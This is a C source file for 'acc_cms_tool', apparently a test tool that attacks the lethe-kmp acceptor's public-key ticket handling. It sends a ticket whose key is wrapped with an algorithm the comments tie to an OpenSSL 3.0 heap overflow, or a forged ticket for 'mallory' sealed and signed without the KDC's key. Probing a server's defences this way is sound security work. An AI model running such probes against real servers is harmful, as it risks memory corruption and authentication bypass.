/*
 * acc_cms_tool: attacks an acceptor's public-key ticket path from outside.
 *
 *	acc_cms_tool HOST:PORT CERT SERVICE [forge [SIGNER_CERT SIGNER_KEY]]
 *
 * Sends one client-initiated KMP AP Request (IPsec DOI, nonce 0) to the
 * lethe-kmp server at HOST:PORT. Its AP-REQ carries a public-key ticket
 * for SERVICE ("svc/host@REALM") whose enc-part is a CMS AuthEnvelopedData
 * sealed to CERT (the server's certificate).
 *
 * Without "forge": sealed as Lethe seals, except that the content key is
 * wrapped with id-aes256-wrap-pad: the key-wrap algorithm on which
 * OpenSSL 3.0 writes past a heap buffer, outside the acceptor's
 * allow-list. The sealed content is a PubkeyTicketContent header with no
 * valid EncTicketPart: nothing here could pass as a ticket.
 *
 * With "forge": a forged ticket for client mallory, valid for an hour,
 * with a session key of the tool's choosing, sealed with reg_seal_bytes as
 * the KDC seals; with SIGNER_CERT and SIGNER_KEY the PubkeyTicketContent
 * is first signed by that identity (as the KDC signs with its own), else
 * it is sealed unsigned. Only the certificate (public) and, for the
 * signed kind, a key that is not the KDC's are used.
 *
 * Waits up to 5 s for an answer and prints "REPLY KMMID" or "NO REPLY".
 * Exit status 0 when the message was sent, 1 otherwise.
 */
#include <arpa/inet.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <openssl/crypto.h>
#include <openssl/rand.h>

#include "base/conf.h"
#include "client/client.h"
#include "der/der.h"
#include "kmp/kmp.h"
#include "kmp/kmp_kdf.h"
#include "krb5/krb5.h"
#include "registrar/registrar.h"
#include "registrar/ticket.h"

#include "cms_wrap_pad.h"

#define MSG_MAX 8192
#define REPLY_WAIT_MS 5000

/* t with cms as its public-key enc-part, encoded into cred->ticket. */
static lethe_status
encode_pubkey_ticket(krb_ticket *t, lbytes cms, kcl_cred *cred)
{
	der_writer w;
	lethe_status rc;

	der_writer_init(&w, MSG_MAX);
	t->enc_part.etype = REG_ENCTYPE_PUBKEY_TICKET;
	t->enc_part.cipher = cms;
	GUARD_GOTO(rc, krb_encode_ticket(&w, t));
	GUARD_GOTO(rc, der_writer_take(&w, &cred->ticket, &cred->ticket_len));
	cred->ticket_etype = REG_ENCTYPE_PUBKEY_TICKET;
cleanup:
	der_writer_free(&w);
	return rc;
}

/* The Ticket for service: realm and sname in clear, the sealed CMS as enc-part. */
static lethe_status
make_ticket(X509 *cert, const kcl_name *service, kcl_cred *cred)
{
	static const uint8_t junk[] = "not an EncTicketPart";
	uint8_t *cms = NULL;
	size_t cms_len = 0, mark;
	krb_ticket t;
	der_writer plain;
	lethe_status rc;

	memset(&t, 0, sizeof(t));
	der_writer_init(&plain, MSG_MAX);
	t.realm = service->realm;
	t.sname.name_type = service->name_type;
	t.sname.components = (lbytes *)service->comps;
	t.sname.n_components = service->n_comps;
	mark = der_mark(&plain);
	GUARD_GOTO(rc, der_put_octets(&plain, junk, sizeof(junk) - 1));
	GUARD_GOTO(rc, reg_ticket_bind(&plain, mark, t.realm, &t.sname));
	GUARD_GOTO(rc, cms_seal_wrap_pad(cert, REG_CT_TICKET, der_written(&plain).data,
	    der_written(&plain).len, &cms, &cms_len));
	rc = encode_pubkey_ticket(&t, lbytes_make(cms, cms_len), cred);
cleanup:
	free(cms);
	der_writer_free(&plain);
	return rc;
}

/* A forged EncTicketPart for cred->client, bound to the service and sealed to cert. */
static lethe_status
make_forged_ticket(X509 *cert, const reg_identity *signer, const kcl_name *service,
    kcl_cred *cred, lbytes session)
{
	uint8_t *cms = NULL;
	size_t cms_len = 0, mark;
	krb_enc_ticket_part etp;
	krb_ticket t;
	der_writer plain;
	int64_t now = (int64_t)time(NULL);
	lethe_status rc;

	memset(&t, 0, sizeof(t));
	memset(&etp, 0, sizeof(etp));
	der_writer_init(&plain, MSG_MAX);
	t.realm = service->realm;
	t.sname.name_type = service->name_type;
	t.sname.components = (lbytes *)service->comps;
	t.sname.n_components = service->n_comps;
	etp.flags = KRB_TKT_FLG_INITIAL | KRB_TKT_FLG_PRE_AUTHENT;
	etp.key.keytype = KC_ENCTYPE_AES256_CTS_HMAC_SHA1_96;
	etp.key.keyvalue = session;
	etp.crealm = cred->client.realm;
	etp.cname.name_type = cred->client.name_type;
	etp.cname.components = (lbytes *)cred->client.comps;
	etp.cname.n_components = cred->client.n_comps;
	etp.transited.tr_type = KRB_TR_DOMAIN_X500_COMPRESS;
	etp.authtime = now - 60;
	etp.endtime = now + 3600;
	mark = der_mark(&plain);
	GUARD_GOTO(rc, krb_encode_enc_ticket_part(&plain, &etp));
	GUARD_GOTO(rc, reg_ticket_bind(&plain, mark, t.realm, &t.sname));
	if (signer != NULL)
		GUARD_GOTO(rc, reg_sign_and_seal(signer, cert, REG_CT_TICKET,
		    der_written(&plain).data, der_written(&plain).len, &cms, &cms_len));
	else
		GUARD_GOTO(rc, reg_seal_bytes(cert, REG_CT_TICKET, der_written(&plain).data,
		    der_written(&plain).len, &cms, &cms_len));
	rc = encode_pubkey_ticket(&t, lbytes_make(cms, cms_len), cred);
cleanup:
	free(cms);
	der_writer_free(&plain);
	return rc;
}

/* The client-initiated KMP AP Request, sealed with the session key's HMAC key. */
static lethe_status
make_ap_request(kcl_cred *cred, uint8_t *buf, size_t cap, size_t *len)
{
	kcl_ap_params p;
	kcl_ap_state st;
	kmp_hmac_key key;
	kmp_hmac_usage usage;
	der_writer req;
	kmp_msg m;
	lethe_status rc;

	memset(&p, 0, sizeof(p));
	memset(&st, 0, sizeof(st));
	memset(&key, 0, sizeof(key));
	der_writer_init(&req, MSG_MAX);
	p.ap_options = KRB_AP_OPT_MUTUAL_REQUIRED;
	p.has_seq_number = true;
	p.seq_number = 0x5eed;
	GUARD_GOTO(rc, kcl_ap_req_build(cred, &p, &st, &req));
	memset(&m, 0, sizeof(m));
	m.kmmid = KMP_AP_REQUEST;
	m.doi = KMP_DOI_IPSEC;
	m.u.ap_request.ap_req = der_written(&req);
	m.u.ap_request.server_nonce = KMP_NONCE_CLIENT_INITIATED;
	m.u.ap_request.asd.spi = 0x0000c001;
	m.u.ap_request.suites.count = 1;
	m.u.ap_request.suites.suite[0] =
	    (kmp_suite){ KMP_IPSEC_AUTH_HMAC_SHA1_96, KMP_IPSEC_ENC_3DES };
	GUARD_GOTO(rc, kmp_encode(&m, buf, cap, len));
	GUARD_GOTO(rc, kmp_hmac_usage_for(m.kmmid, &usage));
	GUARD_GOTO(rc, kmp_hmac_key_derive(cred->session_key, usage, &key));
	rc = kmp_hmac_seal(&key, buf, *len);
cleanup:
	kmp_hmac_key_clear(&key);
	kcl_ap_state_clear(&st);
	der_writer_free(&req);
	return rc;
}

/* Send msg to addr and print what comes back within REPLY_WAIT_MS. */
static int
send_and_wait(const lethe_sockaddr *addr, const uint8_t *msg, size_t len)
{
	uint8_t reply[MSG_MAX];
	struct pollfd pfd;
	ssize_t n;
	int fd = socket(addr->ss.ss_family, SOCK_DGRAM, 0);

	if (fd < 0 || sendto(fd, msg, len, 0, (const struct sockaddr *)&addr->ss,
	    addr->len) != (ssize_t)len) {
		perror("acc_cms_tool: send");
		if (fd >= 0)
			close(fd);
		return 1;
	}
	pfd.fd = fd;
	pfd.events = POLLIN;
	if (poll(&pfd, 1, REPLY_WAIT_MS) == 1 && (n = recv(fd, reply, sizeof(reply), 0)) >= 2)
		printf("REPLY %u\n", (unsigned)reply[0]);
	else
		printf("NO REPLY\n");
	close(fd);
	return 0;
}

int
main(int argc, char **argv)
{
	uint8_t session[32], msg[MSG_MAX];
	char client[300];
	lethe_sockaddr addr;
	kcl_cred cred;
	X509 *cert = NULL;
	reg_identity *signer = NULL;
	size_t n = 0, msg_len = 0;
	bool forge = argc >= 5 && strcmp(argv[4], "forge") == 0;
	lethe_status rc;
	int ex = 1;

	memset(&cred, 0, sizeof(cred));
	if (!(argc == 4 || (forge && (argc == 5 || argc == 7)))) {
		fprintf(stderr, "usage: acc_cms_tool HOST:PORT CERT SERVICE "
		    "[forge [SIGNER_CERT SIGNER_KEY]]\n");
		return 2;
	}
	if (argc == 7 && reg_identity_load_pem(argv[5], argv[6], &signer) != LETHE_OK) {
		fprintf(stderr, "acc_cms_tool: cannot load the signer\n");
		return 1;
	}
	if (lethe_conf_parse_addrs(argv[1], 0, &addr, 1, &n, NULL) != LETHE_OK || n != 1 ||
	    reg_cert_load_pem(argv[2], &cert) != LETHE_OK ||
	    kcl_name_parse(&cred.server, argv[3], NULL) != LETHE_OK ||
	    snprintf(client, sizeof(client), "mallory@%.*s", (int)cred.server.realm.len,
	    (const char *)cred.server.realm.data) >= (int)sizeof(client) ||
	    kcl_name_parse(&cred.client, client, NULL) != LETHE_OK ||
	    RAND_bytes(session, sizeof(session)) != 1 ||
	    kc_key_new(KC_ENCTYPE_AES256_CTS_HMAC_SHA1_96, lbytes_make(session,
	    sizeof(session)), &cred.session_key) != LETHE_OK) {
		fprintf(stderr, "acc_cms_tool: bad address, certificate or service\n");
		goto cleanup;
	}
	rc = forge ? make_forged_ticket(cert, signer, &cred.server, &cred,
	    lbytes_make(session, sizeof(session))) : make_ticket(cert, &cred.server, &cred);
	if (rc != LETHE_OK ||
	    make_ap_request(&cred, msg, sizeof(msg), &msg_len) != LETHE_OK) {
		fprintf(stderr, "acc_cms_tool: cannot build the AP Request\n");
		goto cleanup;
	}
	ex = send_and_wait(&addr, msg, msg_len);
cleanup:
	OPENSSL_cleanse(session, sizeof(session));
	kcl_cred_clear(&cred);
	X509_free(cert);
	reg_identity_free(signer);
	return ex;
}
